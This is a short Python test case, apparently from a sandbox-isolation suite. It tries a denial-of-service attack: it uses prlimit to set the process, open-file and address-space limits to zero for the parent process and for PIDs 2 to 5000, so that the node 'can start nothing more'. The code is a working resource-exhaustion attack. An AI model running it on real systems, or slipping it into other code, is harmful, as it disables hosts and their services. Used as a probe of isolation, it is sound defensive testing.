# family: limits
# kind: dos
# tries: prlimit of the zygote and the node: no more files, no more processes
# success looks like: the node can start nothing more
def job(plugin):
  @LIBC@
  answers = []
  none = (c.c_ulong * 2)(0, 0)
  for pid in [os.getppid()] + list(range(2, 5000)):
    if pid not in (0, os.getpid()):
      for kind in (6, 7, 9):
        answers.append(libc.prlimit(pid, kind, none, None))
  return answers.count(0)
